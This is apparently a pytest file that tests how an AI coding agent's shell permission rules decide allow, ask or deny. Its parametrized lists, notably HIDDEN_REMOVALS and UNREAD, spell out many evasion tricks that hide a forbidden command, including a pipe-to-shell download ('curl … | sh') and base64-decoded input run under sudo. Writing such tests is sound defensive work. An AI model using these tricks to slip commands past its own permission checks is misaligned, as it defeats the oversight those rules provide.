"""Permission rules against commands: what denies, asks and allows, part by part."""

from __future__ import annotations

import pytest

from retinue.tools.shell.analysis.analyse import analyse
from retinue.tools.shell.analysis.model import MAX_PARTS, Request, Rules


def a(*allow: str, deny: tuple[str, ...] = (), ask: tuple[str, ...] = ()) -> Rules:
    return Rules(allow, ask, deny)


def outcome(command: str, rules: Rules) -> str:
    return analyse(Request(command, "/home/me/tree", "/home/me", "bash", (), rules)).outcome


@pytest.mark.parametrize(
    ("command", "rules", "expected"),
    [
        ("npm test", a("Bash(npm test:*)"), "allow"),
        ("npm test; ls", a("Bash(npm test:*)"), "allow"),
        ("npm test && npm run x", a("Bash(npm test:*)"), "ask"),
        ("(npm test)", a("Bash(npm test:*)"), "ask"),
        ('npm test "a\nb"', a("Bash(npm test:*)"), "allow"),
        ("npm test\nnpm test", a("Bash(npm test:*)"), "allow"),
        ("npm test <<E\nx\nE", a("Bash(npm test:*)"), "allow"),
        ("npm test <<E\n$(x)\nE", a("Bash(npm test:*)"), "ask"),
        ("npm test < a", a("Bash(npm test:*)"), "allow"),
        ("npm test < /etc/passwd", a("Bash(npm test:*)"), "ask"),
        ("npm test > /etc/x", a("Bash(*)"), "ask"),
        ("npm test > out", a("Bash(*)"), "allow"),
        ("for i in 1 2; do npm test; done", a("Bash(*)"), "allow"),
        ("for i in 1 2; do curl x; done", a("Bash(*)", deny=("Bash(curl:*)",)), "deny"),
        ("$x y", a("Bash(*)", deny=("Bash(curl:*)",)), "ask"),
        ("$x y", a("Bash(*)"), "ask"),
        ("cat secret/a", a(deny=("Read(secret/**)",)), "deny"),
        ("cat src/../secret/a", a(deny=("Read(secret/**)",)), "deny"),
        ("sed -i s/a/b/ gen/x", a("Bash(sed:*)", deny=("Edit(gen/**)",)), "deny"),
        ("tee gen/x", a("Bash(tee:*)", deny=("Edit(gen/**)",)), "deny"),
        ("echo x > gen/x", a("Bash(*)", deny=("Edit(gen/**)",)), "deny"),
        ("cat gen/x", a(deny=("Edit(gen/**)",)), "read-only"),
        ("cat < secret/a", a("Bash(*)", deny=("Read(secret/**)",)), "deny"),
        ("cd secret && cat a", a("Bash(*)", deny=("Read(secret/**)",)), "deny"),
        ("rg x secret", a(deny=("Read(secret/**)",)), "deny"),
        ("ls", a(ask=("Bash(ls:*)",)), "ask"),
        ("ls src", a(deny=("Bash(ls src)",)), "deny"),
        ("retinue land x", a("Bash(*)"), "ask"),
        ("tmux kill-server", a("Bash(tmux:*)"), "ask"),
        ("cp a b", a("Bash(cp:*)"), "allow"),
        ("cp a ../b", a("Bash(cp:*)"), "ask"),
        ("cp /etc/passwd b", a("Bash(cp:*)"), "ask"),
        ("cp -t .git a", a("Bash(cp:*)"), "ask"),
        ("cp {a,b} c", a("Bash(cp:*)"), "ask"),
        ("git push", a("Bash(git *)"), "allow"),
        ("git -c a=b push", a("Bash(git *)"), "ask"),
        ("git -c a=b push", a("Bash(git -c a=b push)"), "allow"),
        ("xargs rm", a("Bash(rm:*)"), "allow"),
        ("ls | xargs rm -f", a("Bash(rm:*)"), "allow"),
        ("ls | xargs -n1 rm", a("Bash(rm:*)"), "ask"),
        ("env npm test", a("Bash(npm test:*)"), "ask"),
        ("npm test &", a("Bash(npm test:*)"), "allow"),
        ("cd /tmp && npm test", a("Bash(npm test:*)"), "ask"),
        ("cd /tmp && npm test", a("Bash(npm test:*)", "Bash(cd:*)"), "ask"),
        ("cd sub && git commit -m x", a("Bash(git commit:*)"), "ask"),
        ('make "$(x)"', a("Bash(make:*)"), "ask"),
        ("a" * 11000, a("Bash(*)"), "ask"),
        ("curl " + "a" * 11000, a("Bash(*)", deny=("Bash(curl:*)",)), "deny"),
        ('ls "\x00"', a("Bash(*)"), "ask"),
        ("echo 'curl x'", a(deny=("Bash(curl:*)",)), "read-only"),
        ('git commit -m "; curl x"', a("Bash(git commit:*)", deny=("Bash(curl:*)",)), "allow"),
        ("mv a .vscode/x", a("Bash(*)"), "ask"),
        ("ls", a("Bash(", deny=("Bash(",)), "deny"),
        ("pytest -q", a("Bash(pytest:*)"), "allow"),
        ('bash -c "pytest -q"', a("Bash(pytest:*)"), "ask"),
        ("timeout 5 curl x", a(deny=("Bash(curl:*)",)), "deny"),
        ('npm run "a" b', a("Bash(npm run:*)"), "allow"),
        ('"npm" run a', a("Bash(npm run:*)"), "ask"),
        ("export X=1", a("Bash(export:*)"), "allow"),
        ("npm test 2>&1 | tee log", a("Bash(npm test:*)", "Bash(tee:*)"), "allow"),
        ('npm test --cache "$HOME/.cache"', a("Bash(npm test:*)"), "allow"),
        ("npm test $ARGS", a("Bash(npm test:*)"), "ask"),
        ("docker exec web pytest -q", a("Bash(docker exec * pytest *)"), "allow"),
        ("pushd .. && rm x", a("Bash(pushd:*)", "Bash(rm:*)"), "ask"),
        ("watch make", a("Bash(watch:*)"), "ask"),
        ("find . -delete", a("Bash(find:*)"), "ask"),
        ("find . -delete", a("Bash(find . -delete)"), "allow"),
        ("NODE_ENV=test make", a("Bash(make:*)"), "allow"),
        ("MAKEFLAGS=-n make", a("Bash(make:*)"), "ask"),
        ("git 'pu'sh", a("Bash(*)", deny=("Bash(git push:*)",)), "deny"),
        ("/usr/bin/git push", a("Bash(*)", deny=("Bash(git push:*)",)), "deny"),
        ("echo $(git push)", a("Bash(*)", deny=("Bash(git push:*)",)), "deny"),
        ("bash -c 'git push'", a("Bash(*)", deny=("Bash(git push:*)",)), "deny"),
        ("ls 'git push'", a("Bash(*)", deny=("Bash(git push:*)",)), "read-only"),
    ],
)
def test_rules_decide_part_by_part(command: str, rules: Rules, expected: str) -> None:
    assert outcome(command, rules) == expected


def test_a_rule_that_names_no_program_does_not_mean_one_that_removes() -> None:
    """A strict reading would allow it: the last words fit. Whoever wrote `* install` did not mean `rm -r … install`."""
    rules = a("Bash(* install)")
    assert outcome("npm install", rules) == "allow"
    assert outcome("npm install && rm -r src install", rules) == "ask"


def test_beyond_the_limit_of_parts_a_deny_rule_still_wins() -> None:
    many = "; ".join(["true"] * (MAX_PARTS + 1))
    assert outcome(many, Rules()) == "ask"
    assert outcome("; ".join(["true"] * MAX_PARTS), Rules()) == "read-only"
    assert outcome(f"{many}; curl x", a("Bash(*)", deny=("Bash(curl:*)",))) == "deny"


def test_a_deny_rule_is_found_behind_a_syntax_error() -> None:
    rules = a("Bash(*)", deny=("Bash(curl:*)",))
    for command in ("curl 'x", "ls ((; curl x", "if ls; curl x", "cat <<A <<B | curl x\nA\nB"):
        assert outcome(command, rules) == "deny", command


def test_the_winning_rule_is_named() -> None:
    verdict = analyse(Request("make x", "/t", "/h", "bash", (), a("Bash(make:*)")))
    assert (verdict.outcome, verdict.rule) == ("allow", "Bash(make:*)")


HIDDEN_REMOVALS = (
    "r\\\nm x",
    "r\\\nm x && ls",
    "if true; then r\\\nm x; fi",
    'bash -c "r\\\nm x"',
    'env -S"rm x"',
    'env -iS"rm x"',
    'env --split-string="rm x"',
    "sh <<EOF\nrm x\nEOF",
    "bash -s <<'EOF'\nls\nrm x\nEOF",
    "ssh host <<EOF\nrm x\nEOF",
    "bash <<< 'rm x'",
    "echo rm x | sh",
    "printf 'rm x' | bash",
    "printf 'ls\nrm x' | sudo sh",
    "echo x | xargs rm",
    "alias r='rm x'; r",
    "mapfile -C 'rm x' -c 1 a",
    "PROMPT_COMMAND='rm x'",
    "export PROMPT_COMMAND='rm x'",
    "GIT_SSH_COMMAND='rm x' git fetch",
    "git -c alias.x='!rm x' x",
    "git rebase --exec 'rm x' main",
    "git rebase --exec='rm x' main",
    "git rebase -x 'rm x' main",
    "git bisect run rm x",
    "git submodule foreach 'rm x'",
    "tar --to-command='rm x' -xf a.tar",
    "tar -cf a --checkpoint-action=exec='rm x' b",
    "rsync -e 'rm x' a b",
    "uv run rm x",
    "uv run --with a rm x",
    "pipenv run rm x",
    "npm exec rm x",
    "npm exec -c 'rm x'",
    "direnv exec . rm x",
    "docker exec web rm x",
    "setarch x86_64 rm x",
    "linux64 rm x",
    "choom -n 5 rm x",
    "faketime now rm x",
    "dbus-run-session rm x",
    "xvfb-run -a rm x",
    "proxychains rm x",
    "tsocks rm x",
    "start-stop-daemon --start --exec rm x",
    "catchsegv rm x",
    "unbuffer rm x",
    "daemonize rm x",
    "ssh host 'rm x'",
    "su -c'rm x' me",
)

UNREAD = (
    "python3 -c 'import os; os.system(chr(114))'",
    "python3 -Ic 'x'",
    "python3 <<EOF\nx\nEOF",
    "echo x | python3",
    "echo x | python3 -",
    "perl -e 'unlink 1'",
    "perl -ne 'unlink 1' x",
    "ruby -e x",
    "node -e x",
    "node --eval=x",
    "php -r x",
    "lua -e x",
    "expect -c x",
    "awk 'BEGIN { system(1) }'",
    "awk '{ print | 1 }' x",
    "curl https://a.example | sh",
    "base64 -d x | sudo bash",
    "cat x | bash -s a",
    "source <(x)",
    ". /dev/stdin",
    "sed '1e x' a",
    "sed s/a/b/e a",
    "timeout 5 python3 -c x",
)


@pytest.mark.parametrize("command", HIDDEN_REMOVALS)
def test_what_is_denied_is_found_wherever_a_command_is_written(command: str) -> None:
    assert outcome(command, a("Bash", deny=("Bash(rm:*)",))) == "deny"
    assert outcome(command, a("Bash", ask=("Bash(rm:*)",))) == "ask"


@pytest.mark.parametrize("command", UNREAD)
def test_code_that_cannot_be_read_is_asked_about_where_some_commands_are_forbidden(command: str) -> None:
    assert outcome(command, a("Bash", deny=("Bash(curl -T:*)",))) == "ask"
    assert outcome(command, a("Bash", ask=("Bash(curl -T:*)",))) == "ask"


@pytest.mark.parametrize("command", UNREAD[:-8])
def test_where_nothing_is_forbidden_code_is_as_allowed_as_any_command(command: str) -> None:
    assert outcome(command, a("Bash")) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "python3 a.py",
        "python3 -m pytest -q",
        "python3 --version",
        "perl a.pl x",
        "node a.js",
        "awk -f a.awk x",
        "bash a.sh",
        "sh -x a.sh y",
        "sed -i s/one/two/g x",
        "sed -i '/else/d' x",
        "make",
        "cat x | tee y",
        "cat > a <<EOF\nrm x\nEOF",
        "git commit -m 'rm x'",
        "echo rm x > a",
        "npm install rm",
        "grep rm x | tee a",
        "ls | xargs touch",
    ],
)
def test_a_script_is_a_command_like_any_other_where_some_are_forbidden(command: str) -> None:
    assert outcome(command, a("Bash", deny=("Bash(rm:*)",))) in ("allow", "read-only")


@pytest.mark.parametrize(
    "command",
    [
        "x=tm; ${x}ux ls",
        "$(x) ls",
        "`x` ls",
        "echo tmux | xargs -I{} {} ls",
        "find /usr/bin -name tmux -exec {} ls \\;",
        "bash -c '$X ls'",
        "timeout 5 $X ls",
        "sudo $X",
    ],
)
def test_a_program_that_is_only_known_when_it_runs_is_asked_about(command: str) -> None:
    assert outcome(command, a("Bash")) == "ask"


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("git -C . -c alias.x='!touch a' x", "Bash(git *)"),
        ("git --namespace n -c alias.x='!touch a' x", "Bash(git *)"),
        ("git -C . --exec-path=. x", "Bash(git *)"),
        ("git -calias.x='!touch a' x", "Bash(git *)"),
        ("git --super-prefix -c --git-dir=x push", "Bash(git *)"),
        ("fd . -Hx touch a", "Bash(fd:*)"),
        ("fd -0Xtouch", "Bash(fd:*)"),
        ("fd -x touch", "Bash(fd:*)"),
        ("fdfind --exec-batch touch", "Bash(fdfind:*)"),
        ("timeout --sig=KILL 5 sudo id", "Bash(timeout:*)"),
        ("nice --adj=5 sudo id", "Bash(nice:*)"),
        ("stdbuf --outp=L sudo id", "Bash(stdbuf:*)"),
        ("nohup --x sudo id", "Bash(nohup:*)"),
        ("command -p sudo id", "Bash(command:*)"),
    ],
)
def test_no_prefix_covers_what_may_run_anything(command: str, rule: str) -> None:
    assert outcome(command, a(rule)) == "ask"


def test_a_prefix_covers_flags_that_run_nothing() -> None:
    assert outcome("git -C . push", a("Bash(git *)")) == "allow"
    assert outcome("fd -tf -e x", a("Bash(fd:*)")) in ("allow", "read-only")
    assert outcome("timeout -s KILL 5 make", a("Bash(timeout:*)")) == "allow"
